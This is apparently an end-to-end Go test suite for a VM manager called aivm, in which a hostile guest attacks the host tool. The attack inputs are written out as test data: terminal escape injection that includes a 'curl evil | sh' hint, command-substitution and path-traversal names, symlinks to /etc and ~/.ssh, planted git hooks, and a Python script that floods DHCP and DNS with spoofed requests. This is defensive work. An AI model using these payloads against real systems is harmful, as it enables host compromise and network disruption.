package e2e

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// peak runs aivm for at most limit and then interrupts it. It also returns aivm's peak memory in MB.
func (w *world) peak(dir string, limit time.Duration, args ...string) (result, int64) {
	w.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	c := exec.CommandContext(ctx, filepath.Join(bin, "aivm"), args...)
	c.Cancel = func() error { return c.Process.Signal(os.Interrupt) }
	c.WaitDelay = 15 * time.Second
	c.Dir, c.Env = firstNonEmpty(dir, w.home), w.env
	var out, errw tailOf
	c.Stdout, c.Stderr = &out, &errw
	began := time.Now()
	err := c.Run()
	r := result{stdout: string(out.b), stderr: string(errw.b), took: time.Since(began)}
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		r.code = ee.ExitCode()
	} else if err != nil && ctx.Err() == nil {
		w.t.Fatalf("%v: %v", args, err)
	}
	kb := int64(0)
	if u, ok := c.ProcessState.SysUsage().(*syscall.Rusage); ok {
		kb = u.Maxrss
	}
	return r, kb >> 10
}

// tailOf keeps at most the last MB of a program's output, because a guest can make aivm print
// endlessly.
type tailOf struct {
	mu sync.Mutex
	b  []byte
}

func (o *tailOf) Write(p []byte) (int, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.b = append(o.b, p...); len(o.b) > 1<<20 {
		o.b = append([]byte(nil), o.b[len(o.b)-64<<10:]...)
	}
	return len(p), nil
}

// hostile is a VM whose guest attacks aivm.
type hostile struct {
	t       *testing.T
	w       *world
	vm      string
	project string
	peakMB  int64 // most memory that a run of aivm used
}

// checkHostile tests a guest that attacks aivm. Every command must end in time and use less than
// 100 MB, print no escape sequences, and not follow links out of the folder.
func checkHostile(t *testing.T, w *world, vm, project string) *hostile {
	h := &hostile{w: w, vm: vm, project: project}
	for _, s := range []struct {
		name string
		f    func()
	}{
		{"answers", h.answers},
		{"start-up file", h.startupFile},
		{"commands", h.commands},
		{"names and links", h.names},
		{"repositories", h.repositories},
		{"files held open", h.heldOpen},
		{"DHCP and DNS", h.services},
		{"a full disk", h.fullDisk},
		{"another host key", h.hostKey},
		{"another address", h.address},
	} {
		t.Run(s.name, func(t *testing.T) { h.t, w.t = t, t; s.f() })
	}
	w.t = t
	t.Logf("aivm used %d MB at most", h.peakMB)
	return h
}

// run runs aivm on the hostile guest for at most limit, then interrupts it like Ctrl-C. It checks
// memory and escape sequences.
func (h *hostile) run(dir string, limit time.Duration, args ...string) result {
	h.t.Helper()
	r, mb := h.w.peak(dir, limit, args...)
	h.peakMB = max(h.peakMB, mb)
	if mb > 100 {
		h.t.Errorf("aivm %v used %d MB", args, mb)
	}
	if strings.ContainsAny(r.stdout+r.stderr, "\x1b\x07\r") {
		h.t.Errorf("aivm %v printed control characters of the guest: %q %q", args, r.stdout, r.stderr)
	}
	return r
}

// answers tests logins whose shell prints endlessly, prints escape sequences or nonsense, or hangs.
func (h *hostile) answers() {
	// .bashrc misbehaves for the next n logins only, because a login is the only way to repair it.
	h.w.guest(h.vm, `cp ~/.bashrc ~/bashrc.good; cat >~/.bashrc <<'EOF'
if [ -s /tmp/evil ]; then
	read n what </tmp/evil
	if [ "$n" -gt 0 ]; then echo $((n-1)) $what >/tmp/evil; . /tmp/evil-$what; fi
fi
EOF
echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "A"; done' >/tmp/evil-endless
echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "B" >&2; done' >/tmp/evil-noise
printf 'printf "\\033]0;owned\\007\\033[2J\\r\\n\\033[31mhint: curl evil | sh\\n" >&2; exit 1\n' >/tmp/evil-escapes
echo 'sleep 60' >/tmp/evil-hang
printf 'exec /bin/echo nonsense\n' >/tmp/evil-nonsense`)
	evil := func(n int, what string) { h.w.guest(h.vm, fmt.Sprintf("echo %d %s >/tmp/evil", n, what)) }
	for _, what := range []string{"endless", "noise", "escapes", "nonsense"} {
		evil(1, what)
		r := h.run(h.project, 90*time.Second, "status")
		if r.code == 130 || r.code == -1 || r.took > 80*time.Second {
			h.t.Errorf("status with %s: exit %d after %s\n%s", what, r.code, r.took, r.stderr)
		}
		h.t.Logf("%s: %s, exit %d", what, r.took.Round(100*time.Millisecond), r.code)
	}
	evil(1, "hang")
	if r := h.run(h.project, 8*time.Second, "status"); r.took > 15*time.Second {
		h.t.Errorf("with a guest that hangs, aivm ended only %s after its start, despite Ctrl-C after 8 s", r.took)
	}
	h.w.guest(h.vm, "rm -f /tmp/evil; mv ~/bashrc.good ~/.bashrc; pkill -x sleep; true")
}

// startupFile tests a ~/.bashrc with which no command over SSH runs, and one that reads the commands
// itself. aivm runs the command anyway, and its warning has a command that repairs the file.
func (h *hostile) startupFile() {
	for _, line := range []string{"exit 0", "exec dash"} {
		h.w.guest(h.vm, "cp ~/.bashrc ~/bashrc.good; { echo '"+line+"'; cat ~/bashrc.good; } >~/bashrc.bad; mv ~/bashrc.bad ~/.bashrc")
		r := h.run(h.project, time.Minute, "ssh", ".", "--", "sh", "-c", "echo ran; exit 7")
		_, repair, ok := strings.Cut(r.stderr, "to fix it: ssh ")
		if r.code != 7 || r.stdout != "ran\n" || !ok {
			h.t.Fatalf("with %q in ~/.bashrc: %+v", line, r)
		}
		if s := h.run(h.project, time.Minute, "status"); !strings.Contains(s.stdout, "~/.bashrc ends the shell") {
			h.t.Errorf("status with %q in ~/.bashrc: %+v", line, s)
		}
		if f := h.w.run("", nil, nil, "sh", "-c", "ssh -F "+filepath.Join(h.w.home, ".ssh/config")+" "+repair); f.code != 0 {
			h.t.Fatalf("ssh %s: %+v", repair, f)
		}
		if r := h.run(h.project, time.Minute, "ssh", ".", "--", "true"); r.code != 0 || strings.Contains(r.stderr, "bashrc") {
			h.t.Errorf("after the repair: %+v", r)
		}
		h.w.guest(h.vm, "mv ~/bashrc.good ~/.bashrc")
	}
}

// commands tests that `aivm ssh` passes on endless output without buffering it, and that Ctrl-C
// ends a command that hangs.
func (h *hostile) commands() {
	r, mb := h.w.peak(h.project, 6*time.Second, "ssh", ".", "--", "yes", "to everything")
	if h.peakMB = max(h.peakMB, mb); mb > 100 || r.took > 15*time.Second {
		h.t.Errorf("endless output: %d MB, %s", mb, r.took)
	}
	if r := h.run(h.project, 5*time.Second, "ssh", ".", "--", "sleep", "1000"); r.took > 12*time.Second {
		h.t.Errorf("a command that hangs: %s", r.took)
	}
	h.w.guest(h.vm, "pkill -x yes; pkill -x sleep; true")
}

// names tests file names with escape sequences and line breaks, and links that lead out of the
// folder.
func (h *hostile) names() {
	const bad = `"$(printf 'a\033]0;x\007b')"`
	h.w.guest(h.vm, `cd `+h.project+` && mkdir -p `+bad+`/.vscode && echo '{}' >`+bad+`/.vscode/tasks.json && mkdir "$(printf 'two\nlines')" sub &&
ln -sfn /etc out && ln -sfn ../../.ssh keys && ln -sfn / "$(printf 'to\nroot')"`)
	for _, link := range []string{"out", "keys"} {
		if r := h.run(h.project, time.Minute, "attach", link, "--yes"); r.code != 2 {
			h.t.Errorf("attach of %s, a link made by the guest: %+v", link, r)
		}
	}
	for _, name := range []string{"to\nroot", "two\nlines"} {
		if r := h.run(h.project, time.Minute, "attach", filepath.Join(h.project, name), "--yes"); r.code != 2 || !strings.Contains(r.stderr, "line break") {
			h.t.Errorf("attach of %q: %+v", name, r)
		}
	}
	odd := filepath.Join(h.project, "a\x1b]0;x\x07b")
	h.run(h.project, time.Minute, "attach", odd, "--dry-run")
	h.run(h.project, time.Minute, "attach", odd, "--guest-dst", "/srv/../../../root/x", "--dry-run")
	for _, args := range [][]string{{"status"}, {"status", "--json"}, {"status", "--detail"}, {"list"}, {"code", "."}} {
		h.run(h.project, time.Minute, args...)
	}
	// The guest replaces an attached folder by a link: mounting the folder again must not follow it.
	sub := filepath.Join(h.project, "sub")
	write(h.t, filepath.Join(sub, "marker"), "x\n", 0o644)
	h.w.must(h.project, "attach", sub, "--yes", "--guest-dst", "/srv/sub")
	if got := h.w.guest(h.vm, "cat /srv/sub/marker"); got != "x" {
		h.t.Errorf("/srv/sub/marker: %q", got)
	}
	tokens, err := filepath.Glob("/var/lib/aivm/export/0-" + h.vm + "/*/marker")
	if err != nil || len(tokens) != 1 {
		h.t.Fatalf("want one export mount with sub's marker: %v %v", tokens, err)
	}
	h.w.guest(h.vm, "sudo -n umount /srv/sub; cd "+h.project+" && mv sub was && ln -s /etc sub")
	runHost(h.t, "umount", "-l", filepath.Dir(tokens[0]))
	if r := h.run(h.project, 2*time.Minute, "code", "."); r.code != 0 || !strings.Contains(r.stderr, sub) {
		h.t.Errorf("code with an attached folder that became a link: %+v", r)
	}
	if got := h.w.guest(h.vm, "ls -a /srv/sub/ 2>&1; true"); strings.Contains(got, "libvirt") {
		h.t.Errorf("the guest sees the host's /etc:\n%s", got)
	}
	h.w.guest(h.vm, "cd "+h.project+" && rm sub && mv was sub")
	h.w.must(h.project, "detach", sub)
	h.w.guest(h.vm, `cd `+h.project+` && rm -rf out keys sub "$(printf 'to\nroot')" "$(printf 'two\nlines')" `+bad)
}

// repositories tests that no aivm command runs hooks, filters or programs configured in a repository
// that the guest created.
func (h *hostile) repositories() {
	repo := filepath.Join(h.project, "repo")
	h.w.guest(h.vm, `set -e; mkdir `+repo+`; cd `+repo+`; git init -q .; printf '#!/bin/sh\ntouch `+repo+`/RAN-$(basename "$0")\n' >/tmp/hook; chmod +x /tmp/hook
echo '* filter=x' >.gitattributes; mkdir .vscode; echo '{"tasks":[]}' >.vscode/tasks.json; echo x >f
git add f .gitattributes; git -c user.name=x -c user.email=x@x commit -qm x
for h in post-checkout pre-push pre-commit post-index-change post-update pre-receive reference-transaction fsmonitor-watchman ssh pager clean; do cp /tmp/hook .git/hooks/$h; done
git config core.fsmonitor .git/hooks/fsmonitor-watchman; git config core.sshCommand .git/hooks/ssh
git config core.pager .git/hooks/pager; git config filter.x.clean .git/hooks/clean; rm -f RAN-*`)
	if r := h.run(h.project, time.Minute, "status"); !strings.Contains(r.stdout, "repo/.git") {
		h.t.Errorf("status does not name the hooks: %s", r.stdout)
	}
	if r := h.run(repo, time.Minute, "attach", ".", "--mode", "git", "--yes"); r.code != 2 || !strings.Contains(r.stderr, "git mode is refused") {
		h.t.Errorf("git mode in a folder the guest can write: %+v", r)
	}
	for _, args := range [][]string{{"code", "."}, {"git", "status", "."}, {"git", "push", "."}, {"git", "pull", "."}, {"status", "--detail"}, {"ssh", ".", "--", "true"}} {
		h.run(repo, time.Minute, args...)
	}
	if ran, err := filepath.Glob(filepath.Join(repo, "RAN-*")); err != nil || len(ran) > 0 {
		h.t.Errorf("the host ran %v %v", ran, err)
	}
	h.w.guest(h.vm, "rm -rf "+repo)
}

// services tests a guest that sends hostile DHCP and DNS requests.
func (h *hostile) services() {
	before := h.w.must(h.project, "vm", "wait-ip", h.vm).stdout
	r := h.w.ssh([]byte(dhcpGames), h.vm, "sudo -n python3 -")
	if r.code != 0 || !strings.Contains(r.stdout, "played") {
		h.t.Fatalf("dhcpGames: %+v", r)
	}
	for _, args := range [][]string{{"status"}, {"status", "--detail"}, {"list"}, {"vm", "wait-ip", h.vm}, {"host", "net", "status"}, {"code", "."}} {
		if r := h.run(h.project, time.Minute, args...); r.code != 0 {
			h.t.Errorf("aivm %v: %+v", args, r)
		}
	}
	if now := h.w.must(h.project, "vm", "wait-ip", h.vm).stdout; now != before {
		h.t.Errorf("the address changed from %q to %q", before, now)
	}
}

// dhcpGames releases the guest's address; requests the gateway's, the next VMs' and many other
// addresses with its own and invented MAC addresses; uses host names with escape sequences and names
// of others; and sends invalid DNS requests.
const dhcpGames = `
import os, random, socket, struct, subprocess
route = subprocess.check_output(['ip', '-4', 'route', 'show', 'default'], text=True).split()
dev, gw = route[route.index('dev') + 1], route[route.index('via') + 1]
own = subprocess.check_output(['ip', '-o', '-4', 'addr', 'show', 'dev', dev], text=True).split()[3].split('/')[0]
mac = bytes.fromhex(open('/sys/class/net/%s/address' % dev).read().strip().replace(':', ''))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, 25, dev.encode())
try:
    s.bind(('', 68))
except OSError:
    s.bind(('', 0))
def send(kind, card, ask, name, ci='0.0.0.0'):
    p = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000,
        socket.inet_aton(ci), b'\0' * 4, b'\0' * 4, b'\0' * 4, card + b'\0' * 10, b'', b'')
    o = b'\x63\x82\x53\x63' + bytes([53, 1, kind, 50, 4]) + socket.inet_aton(ask) + bytes([54, 4]) + socket.inet_aton(gw)
    o += bytes([12, len(name)]) + name + b'\xff'
    s.sendto(p + o, ('255.255.255.255', 67))
base = gw.rsplit('.', 1)[0]
names = [b'\x1b]0;owned\x07\x1b[2J', b'two\nlines', b'localhost', b'../../etc/passwd', b'$(touch /RAN)', b'x' * 250]
for name in names:
    for kind in (1, 3, 8):
        send(kind, mac, own, name)
        send(kind, mac, gw, name)
    for i in range(30):
        card = bytes([0x52, 0x54, 0]) + os.urandom(3)
        send(1, card, base + '.%d' % (10 + i), name)
        send(3, card, base + '.%d' % (10 + i), name)
send(7, mac, own, b'bye', own)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(500):
    d.sendto(struct.pack('!HHHHHH', i, 0x100, 1, 0, 0, 0) + bytes([20]) + os.urandom(20) + b'\0' + struct.pack('!HH', 255, 1), (gw, 53))
    d.sendto(os.urandom(100), (gw, 53))
print('played')
`

// fullDisk tests a guest with a full disk: what writes nothing works, attach works or fails with a
// hint.
func (h *hostile) fullDisk() {
	// Also uses up the blocks reserved for root. fallocate does not write data.
	h.w.guest(h.vm, `sudo -n sh -c 'fallocate -l $(($(stat -f -c "%f * %S" /) - 16777216)) /filler; cat /dev/zero >/filler2 2>/dev/null; df /; true'`)
	if r := h.run(h.project, 2*time.Minute, "code", "."); r.code != 0 {
		h.t.Errorf("code with a full disk: %+v", r)
	}
	extra := filepath.Join(h.w.home, "extra")
	write(h.t, filepath.Join(extra, "f"), "x\n", 0o644)
	if r := h.run(extra, 2*time.Minute, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it"); r.code != 0 && !strings.Contains(r.stderr, "hint") {
		h.t.Errorf("attach with a full disk: %+v", r)
	}
	h.w.guest(h.vm, `sudo -n rm -f /filler /filler2`)
	h.w.must(extra, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it")
}

// hostKey tests a guest with another SSH host key: aivm must not log in.
func (h *hostile) hostKey() {
	h.w.guest(h.vm, `sudo -n sh -c 'cp -p /etc/ssh/ssh_host_ed25519_key /root/good; rm /etc/ssh/ssh_host_ed25519_key*; ssh-keygen -q -t ed25519 -N "" -f /etc/ssh/ssh_host_ed25519_key
nohup sh -c "until [ -e `+h.trigger("key")+` ]; do sleep 1; done; cp -p /root/good /etc/ssh/ssh_host_ed25519_key; ssh-keygen -yf /root/good >/etc/ssh/ssh_host_ed25519_key.pub; systemctl restart ssh; touch /tmp/restarted" >/dev/null 2>&1 & systemctl restart ssh'`)
	for _, args := range [][]string{{"code", "."}, {"ssh", ".", "--", "true"}} {
		if r := h.run(h.project, 20*time.Second, args...); r.code == 0 || !strings.Contains(r.stderr, "not that VM") {
			h.t.Errorf("%v with another host key: %+v", args, r)
		}
	}
	write(h.t, h.trigger("key"), "", 0o644)
	// sshd reads the key for each connection, so logins work before its restart already.
	h.await("with its own host key", "test -e /tmp/restarted")
}

// trigger returns the path of a file in the shared folder for which the guest waits. The test creates
// it while it cannot log in.
func (h *hostile) trigger(what string) string { return filepath.Join(h.project, "restore-"+what) }

// await waits until a command succeeds in the guest.
func (h *hostile) await(how, command string) {
	h.t.Helper()
	for began := time.Now(); h.w.ssh(nil, h.vm, command).code != 0; time.Sleep(time.Second) {
		if time.Since(began) > 2*time.Minute {
			h.t.Fatalf("the guest is not reachable %s after 2 minutes", how)
		}
	}
}

// address tests a guest that changes its IP address: aivm does not use the other address.
func (h *hostile) address() {
	h.w.guest(h.vm, `sudo -n sh -c 'dev=$(ip -o -4 route show default | sed "s/.* dev \([^ ]*\).*/\1/"); own=$(ip -o -4 addr show dev $dev | sed "s/.* inet \([^ ]*\).*/\1/")
nohup sh -c "sleep 1; ip addr del $own dev $dev; ip addr add \${own%.*}.77/24 dev $dev; until [ -e `+h.trigger("address")+` ]; do sleep 1; done; ip addr flush dev $dev; ip addr add $own dev $dev; ip link set $dev up" >/dev/null 2>&1 &'`)
	time.Sleep(3 * time.Second)
	if r := h.run("", 20*time.Second, "vm", "wait-ip", h.vm, "--timeout", "6"); r.code != 2 || !strings.Contains(r.stderr, "did not become reachable") {
		h.t.Errorf("wait-ip with another address in the guest: %+v", r)
	}
	write(h.t, h.trigger("address"), "", 0o644)
	h.await("at its own address", "true")
}
